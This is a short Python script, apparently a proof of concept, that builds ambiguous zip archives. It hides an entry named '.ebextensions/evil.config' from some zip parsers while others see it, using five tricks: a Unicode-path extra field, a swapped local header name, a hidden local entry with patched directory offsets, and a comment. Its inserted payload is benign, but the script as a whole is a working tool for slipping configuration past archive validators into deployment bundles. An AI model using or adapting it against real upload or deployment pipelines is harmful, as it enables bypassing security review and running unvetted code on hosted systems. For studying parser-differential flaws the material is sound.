"""Adds .ebextensions/evil.config to a zip file in a form that only some readers see.

Usage: ambiguousZip.py unicode-path|local-name|between|before|comment SOURCE TARGET
"""

import struct
import sys
import zipfile
import zlib

EVIL = b".ebextensions/evil.config"
HARMLESS = b"docs/extra/harmless.texts"
BODY = b"Resources: {}\n"

attack, source, target = sys.argv[1:]
assert len(EVIL) == len(HARMLESS)


def hidden():
    """Returns an entry without a record in the central directory, which streaming readers see."""
    sizes = struct.pack("<III", zlib.crc32(BODY), len(BODY), len(BODY))
    lengths = struct.pack("<HH", len(EVIL), 0)
    return struct.pack("<IHHHHH", 0x04034B50, 20, 0, 0, 0, 0x21) + sizes + lengths + EVIL + BODY


def moved(data, at, extra):
    """Returns the zip file with bytes inserted before its central directory or its first entry."""
    end = data.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", data, end + 16)[0]
    directory = bytearray(data[start:end])
    position = 0
    while at == 0 and position < len(directory):
        offset = struct.unpack_from("<I", directory, position + 42)[0]
        struct.pack_into("<I", directory, position + 42, offset + len(extra))
        position += 46 + sum(struct.unpack_from("<HHH", directory, position + 28))
    tail = bytearray(data[end:])
    struct.pack_into("<I", tail, 16, start + len(extra))
    files = data[:start]
    return (extra + files if at == 0 else files + extra) + bytes(directory + tail)


with open(source, "rb") as file:
    original = file.read()
if attack == "between":
    result = moved(original, -1, hidden())
elif attack == "before":
    result = moved(original, 0, hidden())
else:
    with open(target, "wb") as file:
        file.write(original)
    with zipfile.ZipFile(target, "a") as archive:
        # yauzl and unzip take the name of the extra field, Java and Python that of the header.
        entry = zipfile.ZipInfo((EVIL if attack == "unicode-path" else HARMLESS).decode())
        entry.external_attr = 0o100644 << 16
        if attack == "unicode-path":
            name = struct.pack("<BI", 1, zlib.crc32(EVIL)) + HARMLESS
            entry.extra = struct.pack("<HH", 0x7075, len(name)) + name
        if attack == "comment":
            entry.comment = EVIL
        archive.writestr(entry, BODY)
    with open(target, "rb") as file:
        result = file.read()
    if attack == "local-name":
        result = result.replace(HARMLESS, EVIL, 1)
with open(target, "wb") as file:
    file.write(result)
